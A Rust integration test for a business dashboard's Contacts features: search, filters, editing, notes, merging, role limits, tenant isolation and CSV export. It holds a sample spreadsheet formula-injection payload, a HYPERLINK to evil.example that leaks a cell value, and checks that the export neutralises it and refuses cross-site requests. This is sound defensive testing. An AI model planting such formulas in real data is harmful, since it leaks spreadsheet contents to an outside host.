//! The dashboard's Contacts pages, through their server functions as the pages call them
//! and the CSV export as the "Export CSV" link downloads it: search and filters with the
//! cursor, editing (a bad email refused on its field), a note on the timeline, merging,
//! the CSV's headers, quoting and neutralised formulas, and what an agent may not do.
//! Business B's reach is in the isolation table; here its session exports and lists
//! nothing of A's.

use chrono::{Duration, Utc};
use sea_orm::{ActiveModelTrait, ActiveValue::Set, EntityTrait};
use serde_json::{json, Value};

use crate::both_dbs;
use crate::helpers::{Db, Owner, TestApp};
use crate::ws::colleague;

const RECORD_PURCHASE: &str = "mutation($i: RecordPurchaseInput!) { recordPurchase(input: $i) \
    { purchase { contactId } } }";

/// A formula a caller might type as their name.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";

/// Calls a server function as the holder of `token` with `(name, value)` pairs.
async fn run(app: &TestApp, token: &str, endpoint: &str, form: &[(&str, &str)]) -> (u16, Value) {
    app.server_fn_as(token, endpoint, form).await
}

/// A contact of `owner`'s business made by recording a purchase for `email`.
async fn buyer(app: &TestApp, owner: &Owner, email: &str, reference: &str) -> String {
    let res = app
        .gql(
            &owner.auth(),
            RECORD_PURCHASE,
            json!({ "i": { "contact": { "email": email }, "product": "Widget",
                "amountMinor": 1200, "currency": "EUR",
                "purchasedAt": "2026-12-01T10:00:00Z", "externalRef": reference } }),
        )
        .await;
    res["data"]["recordPurchase"]["purchase"]["contactId"]
        .as_str()
        .unwrap_or_else(|| panic!("recordPurchase: {res}"))
        .to_owned()
}

/// Sets a contact's last contact `days_ago` days back (`None`: never).
async fn last_contact(app: &TestApp, id: &str, days_ago: Option<i64>) {
    use entity::entities::contact;
    let id = uuid::Uuid::parse_str(id).unwrap();
    let row = contact::Entity::find_by_id(id)
        .one(&app.services.db)
        .await
        .unwrap()
        .unwrap();
    let mut active: contact::ActiveModel = row.into();
    active.last_contact_at = Set(days_ago.map(|d| Utc::now() - Duration::days(d)));
    active.update(&app.services.db).await.unwrap();
}

/// The ids of a `list_contacts` answer.
fn ids(page: &Value) -> Vec<String> {
    page["items"]
        .as_array()
        .map(|items| {
            items
                .iter()
                .filter_map(|c| c["id"].as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

/// `GET /app/contacts.csv?<query>` with the session `token` and extra headers.
async fn csv(
    app: &TestApp,
    token: Option<&str>,
    query: &str,
    headers: &[(&str, &str)],
) -> reqwest::Response {
    let mut req = app
        .http
        .get(format!("{}/app/contacts.csv{query}", app.base));
    if let Some(t) = token {
        req = req.header("cookie", format!("dc_session={t}"));
    }
    for (name, value) in headers {
        req = req.header(*name, *value);
    }
    req.send().await.unwrap()
}

/// A full edit form for contact `id`.
fn edit<'a>(id: &'a str, name: &'a str, email: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![
        ("id", id),
        ("name", name),
        ("email", email),
        ("phone", ""),
        ("address", "1 Main St, Springfield"),
        ("tags", "VIP, wholesale"),
    ]
}

async fn an_owner_searches_edits_notes_merges_and_exports(db: Db) {
    let app = TestApp::spawn(db).await;
    let owner = app.sign_up("Alpha").await;
    let t = owner.token.as_str();

    // Nothing yet: an empty list, and the page says so.
    let (status, empty) = run(&app, t, "list_contacts", &[]).await;
    assert_eq!(status, 200, "{empty}");
    assert_eq!(empty, json!({ "items": [], "next": null }));
    let page = app
        .http
        .get(format!("{}/app/contacts", app.base))
        .header("cookie", format!("dc_session={t}"))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    let html = page.text().await.unwrap_or_default();
    assert!(html.contains("id=\"no-contacts\""), "no empty state");
    assert!(
        html.contains("href=\"/app/contacts\""),
        "no navigation link"
    );
    assert!(html.contains("/app/contacts.csv"), "no export link");

    // Three buyers, oldest first: Ann (last week), Bob (two months ago), Cleo (never).
    let ann = buyer(&app, &owner, "ann@acme.example", "order-1").await;
    let bob = buyer(&app, &owner, "bob@bobs.example", "order-2").await;
    let cleo = buyer(&app, &owner, "cleo@cleo.example", "order-3").await;
    last_contact(&app, &ann, Some(3)).await;
    last_contact(&app, &bob, Some(60)).await;
    last_contact(&app, &cleo, None).await;

    let (status, all) = run(&app, t, "list_contacts", &[]).await;
    assert_eq!(status, 200, "{all}");
    assert_eq!(ids(&all), [cleo.clone(), bob.clone(), ann.clone()], "{all}");
    assert_eq!(all["next"], Value::Null);
    // The cursor: after Cleo come Bob and Ann.
    let (_, after) = run(&app, t, "list_contacts", &[("after", &cleo)]).await;
    assert_eq!(ids(&after), [bob.clone(), ann.clone()], "{after}");

    // Editing: a bad email is refused on its field, and nothing changes.
    let (status, refused) = run(
        &app,
        t,
        "update_contact",
        &edit(&ann, "Ann", "not-an-email"),
    )
    .await;
    assert_eq!(status, 422, "{refused}");
    assert_eq!(refused["code"], "VALIDATION", "{refused}");
    assert_eq!(refused["fields"][0]["field"], "email", "{refused}");
    assert!(
        refused["fields"][0]["message"]
            .as_str()
            .is_some_and(|m| m.ends_with('.')),
        "not a sentence: {refused}"
    );
    let (status, blank) = run(
        &app,
        t,
        "update_contact",
        &edit(&ann, " ", "ann@acme.example"),
    )
    .await;
    assert_eq!(status, 422, "{blank}");
    assert_eq!(blank["fields"][0]["field"], "name", "{blank}");
    let (_, same) = run(&app, t, "contact", &[("id", &ann)]).await;
    assert_eq!(same["email"], "ann@acme.example", "{same}");
    assert_eq!(same["name"], "ann@acme.example", "{same}");

    let mut form = edit(&ann, "Ann <b>Lee</b>", "ANN@acme.example");
    form.push(("client_type", "premium"));
    let (status, saved) = run(&app, t, "update_contact", &form).await;
    assert_eq!(status, 200, "{saved}");
    assert_eq!(saved["name"], "Ann <b>Lee</b>");
    assert_eq!(saved["email"], "ann@acme.example");
    assert_eq!(saved["tags"], json!(["vip", "wholesale"]));
    assert_eq!(saved["client_type"], "premium");
    assert_eq!(saved["client_type_override"], "premium");
    let (status, cleo_saved) = run(
        &app,
        t,
        "update_contact",
        &edit(&cleo, FORMULA, "cleo@cleo.example"),
    )
    .await;
    assert_eq!(status, 200, "{cleo_saved}");

    // Search: part of a name, an email, a domain, a whole tag; filters.
    for (search, want) in [
        ("lee", vec![ann.clone()]),
        ("BOB@", vec![bob.clone()]),
        ("cleo.example", vec![cleo.clone()]),
        ("vip", vec![cleo.clone(), ann.clone()]),
        ("nobody", vec![]),
    ] {
        let (status, found) = run(&app, t, "list_contacts", &[("search", search)]).await;
        assert_eq!(status, 200, "{found}");
        assert_eq!(ids(&found), want, "search {search}: {found}");
    }
    let (_, premium) = run(&app, t, "list_contacts", &[("client_type", "premium")]).await;
    assert_eq!(ids(&premium), vec![ann.clone()], "{premium}");
    let (_, repeat) = run(&app, t, "list_contacts", &[("client_type", "repeat")]).await;
    assert_eq!(ids(&repeat), [cleo.clone(), bob.clone()], "{repeat}");
    let (_, week) = run(&app, t, "list_contacts", &[("within_days", "7")]).await;
    assert_eq!(ids(&week), vec![ann.clone()], "{week}");
    let (_, quarter) = run(&app, t, "list_contacts", &[("within_days", "90")]).await;
    assert_eq!(ids(&quarter), [bob.clone(), ann.clone()], "{quarter}");
    let (status, bad) = run(&app, t, "list_contacts", &[("within_days", "soon")]).await;
    assert_eq!(status, 422, "{bad}");
    assert_eq!(bad["fields"][0]["field"], "within_days", "{bad}");
    let (status, bad) = run(&app, t, "list_contacts", &[("client_type", "gold")]).await;
    assert_eq!(status, 422, "{bad}");

    // A note lands on the timeline, with the purchase; a blank one is refused on its field.
    let (status, note) = run(
        &app,
        t,
        "add_contact_note",
        &[("contact_id", &ann), ("text", "Wants the <blue> one")],
    )
    .await;
    assert_eq!(status, 200, "{note}");
    let (status, blank) = run(
        &app,
        t,
        "add_contact_note",
        &[("contact_id", &ann), ("text", "  ")],
    )
    .await;
    assert_eq!(status, 422, "{blank}");
    assert_eq!(blank["fields"][0]["field"], "text", "{blank}");
    let (status, timeline) = run(&app, t, "contact_timeline", &[("id", &ann)]).await;
    assert_eq!(status, 200, "{timeline}");
    let entries = timeline.as_array().cloned().unwrap_or_default();
    assert_eq!(entries.len(), 2, "{timeline}");
    assert_eq!(
        entries[0]["Note"]["text"], "Wants the <blue> one",
        "{timeline}"
    );
    assert_eq!(
        entries[1]["Purchase"]["external_ref"], "order-1",
        "{timeline}"
    );

    // The contact page shows the contact, its text escaped.
    let res = app
        .http
        .get(format!("{}/app/contacts/{ann}", app.base))
        .header("cookie", format!("dc_session={t}"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let html = res.text().await.unwrap_or_default();
    assert!(
        html.contains("Ann &lt;b&gt;Lee&lt;/b&gt;"),
        "name not shown as text"
    );
    assert!(html.contains("id=\"contact-timeline\""), "no timeline");

    // Merging: Bob into Ann — Bob's purchase moves, Bob is gone.
    let (status, same) = run(&app, t, "merge_contacts", &[("id", &ann), ("from", &ann)]).await;
    assert_eq!(status, 422, "{same}");
    let (status, merged) = run(&app, t, "merge_contacts", &[("id", &ann), ("from", &bob)]).await;
    assert_eq!(status, 200, "{merged}");
    assert_eq!(merged["id"], ann.as_str());
    assert_eq!(
        merged["name"], "Ann <b>Lee</b>",
        "the kept contact keeps its fields"
    );
    let (status, gone) = run(&app, t, "contact", &[("id", &bob)]).await;
    assert_eq!(status, 404, "{gone}");
    let (_, timeline) = run(&app, t, "contact_timeline", &[("id", &ann)]).await;
    let refs: Vec<&str> = timeline
        .as_array()
        .map(|e| {
            e.iter()
                .filter_map(|e| e["Purchase"]["external_ref"].as_str())
                .collect()
        })
        .unwrap_or_default();
    assert_eq!(refs.len(), 2, "{timeline}");
    assert!(refs.contains(&"order-2"), "{timeline}");

    // The CSV: a download, quoted, formulas neutralised; the filters apply.
    let res = csv(&app, Some(t), "", &[]).await;
    assert_eq!(res.status(), 200);
    assert_eq!(
        res.headers()["content-type"].to_str().unwrap(),
        "text/csv; charset=utf-8"
    );
    let disposition = res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        disposition.starts_with("attachment; filename=\"contacts-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let body = res.text().await.unwrap();
    let lines: Vec<&str> = body.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(lines.len(), 3, "{body}");
    assert!(
        lines[0].starts_with("id,name,email,phone,address,"),
        "{body}"
    );
    assert!(
        lines[1].starts_with(&format!(
            "{cleo},\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",cleo@cleo.example,,\"1 Main St, Springfield\","
        )),
        "formula not neutralised or not quoted: {body}"
    );
    assert!(
        lines[2].starts_with(&format!("{ann},Ann <b>Lee</b>,ann@acme.example,")),
        "{body}"
    );
    assert!(
        lines[2].contains(",vip;wholesale,premium,premium,"),
        "{body}"
    );
    assert!(lines[2].contains(",2400,EUR,"), "both purchases: {body}");
    let filtered = csv(&app, Some(t), "?q=acme&type=premium&last=7", &[])
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        filtered.split("\r\n").filter(|l| !l.is_empty()).count(),
        2,
        "{filtered}"
    );
    assert!(filtered.contains(&ann), "{filtered}");
    let res = csv(&app, Some(t), "?last=soon", &[]).await;
    assert_eq!(res.status(), 422);

    // The export needs the session, and our own page.
    let res = csv(&app, None, "", &[]).await;
    assert_eq!(res.status(), 401);
    let res = csv(&app, Some(t), "", &[("sec-fetch-site", "cross-site")]).await;
    assert_eq!(res.status(), 403);
    let res = csv(&app, Some(t), "", &[("origin", "https://evil.example")]).await;
    assert_eq!(res.status(), 403);
    let res = csv(&app, Some(t), "", &[("sec-fetch-site", "same-origin")]).await;
    assert_eq!(res.status(), 200);
    // An API key is no session here (integrations page through GraphQL).
    let (_, key) = app.api_key(&owner, "export").await;
    let res = app
        .http
        .get(format!("{}/app/contacts.csv", app.base))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 401);

    // An agent edits and writes notes, but neither merges nor picks a client type.
    let (agent, _) = colleague(&app, &owner).await;
    let (status, body) = run(
        &app,
        &agent,
        "merge_contacts",
        &[("id", &ann), ("from", &cleo)],
    )
    .await;
    assert_eq!(status, 403, "{body}");
    let mut form = edit(&cleo, "Cleo", "cleo@cleo.example");
    form.push(("client_type", "premium"));
    let (status, body) = run(&app, &agent, "update_contact", &form).await;
    assert_eq!(status, 403, "{body}");
    let (status, body) = run(
        &app,
        &agent,
        "update_contact",
        &edit(&cleo, "Cleo", "cleo@cleo.example"),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = run(
        &app,
        &agent,
        "add_contact_note",
        &[("contact_id", &cleo), ("text", "Called back")],
    )
    .await;
    assert_eq!(status, 200, "{body}");

    // Business B's session lists, opens and exports nothing of A's.
    let b = app.sign_up("Beta").await;
    let (status, list) = run(&app, &b.token, "list_contacts", &[]).await;
    assert_eq!(status, 200);
    assert_eq!(list, json!({ "items": [], "next": null }));
    let (status, _) = run(&app, &b.token, "list_contacts", &[("after", &cleo)]).await;
    assert_eq!(status, 200);
    for (endpoint, form) in [
        ("contact", vec![("id", ann.as_str())]),
        ("contact_timeline", vec![("id", ann.as_str())]),
        (
            "add_contact_note",
            vec![("contact_id", ann.as_str()), ("text", "Mine")],
        ),
        (
            "merge_contacts",
            vec![("id", ann.as_str()), ("from", cleo.as_str())],
        ),
    ] {
        let (status, body) = run(&app, &b.token, endpoint, &form).await;
        assert!(matches!(status, 403 | 404), "{endpoint}: {status} {body}");
        assert!(
            !body.to_string().contains("acme"),
            "{endpoint} leaked: {body}"
        );
    }
    let (status, body) = run(&app, &b.token, "update_contact", &edit(&ann, "Mine", "")).await;
    assert_eq!(status, 404, "{body}");
    let exported = csv(&app, Some(&b.token), "", &[])
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        exported.split("\r\n").filter(|l| !l.is_empty()).count(),
        1,
        "{exported}"
    );
    let (_, still) = run(&app, t, "contact", &[("id", &ann)]).await;
    assert_eq!(still["name"], "Ann <b>Lee</b>", "{still}");
    app.finish().await;
}

both_dbs!(an_owner_searches_edits_notes_merges_and_exports);
